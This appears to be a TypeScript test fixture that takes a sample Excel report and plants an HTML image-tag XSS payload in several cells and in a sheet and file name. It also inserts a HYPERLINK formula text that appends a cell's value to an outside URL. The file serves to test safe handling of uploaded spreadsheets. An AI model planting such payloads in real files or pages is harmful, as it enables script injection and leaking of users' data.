import ExcelJS from "exceljs";
import { sampleFolder } from "../../support/sampleReview.ts";

/** What would run if it were taken for HTML. */
export const markup = '<img src=x onerror="harm()">';
/** What would run if it were taken for a formula; in the file it is a text. */
export const formulaText = '=HYPERLINK("https://example.org/"&A1,"bấm vào đây")';
/** As markup, in what Excel allows for the name of a sheet. */
export const hostileSheet = "<img src=x onerror=harm()>";

/** A report of the sample in which somebody has put texts that do harm where they are not shown as texts. */
export async function hostileFile(): Promise<{
  readonly name: string;
  readonly mimeType: string;
  readonly buffer: Buffer;
}> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(`${sampleFolder}/received/XA PHO CUONG.xlsx`);
  const sheet = (name: string): ExcelJS.Worksheet => {
    const found = workbook.getWorksheet(name);
    if (found === undefined) throw new Error(`the file has no sheet ${name}`);
    return found;
  };
  sheet("DCCS 02").getCell("A6").value = `Đơn vị báo cáo: ${markup}`;
  sheet("DV 03").getCell("C10").value = markup;
  sheet("DV 03").getCell("F10").value = formulaText;
  const first = sheet("DCCS 01");
  first.getCell("E12").value = markup;
  first.name = hostileSheet;
  return {
    name: `${hostileSheet}.xlsx`,
    mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    buffer: Buffer.from(await workbook.xlsx.writeBuffer()),
  };
}
